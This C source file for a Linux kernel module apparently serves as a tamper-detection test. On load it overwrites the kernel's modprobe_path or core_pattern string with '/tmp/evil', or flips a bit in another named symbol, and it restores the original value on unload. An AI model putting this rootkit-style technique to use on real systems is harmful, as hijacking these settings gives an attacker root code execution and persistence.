// SPDX-License-Identifier: GPL-2.0-only
/*
 * Changes a setting of the kernel where it lies, as a rootkit does, past sysctl: the program that the kernel
 * starts to load modules, or a word. What it was comes back when the module goes.
 */
#include <linux/module.h>
#include <linux/string.h>

#include "attack.h"

static char *what = "modprobe_path";
module_param(what, charp, 0400);
MODULE_PARM_DESC(what, "symbol");

static char before[256], *where;

static bool is_text(void)
{
	return !strcmp(what, "modprobe_path") || !strcmp(what, "core_pattern");
}

static int __init attack_init(void)
{
	where = (char *)attack_symbol(what);
	if (!where)
		return -ENOENT;
	if (is_text()) {
		strscpy(before, where, sizeof(before));
		strcpy(where, "/tmp/evil");
	} else {
		memcpy(before, where, 1);
		*where ^= 1;
	}
	return 0;
}

static void __exit attack_exit(void)
{
	if (is_text())
		strcpy(where, before);
	else
		*where = before[0];
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attack: a setting of the kernel");
MODULE_LICENSE("GPL");
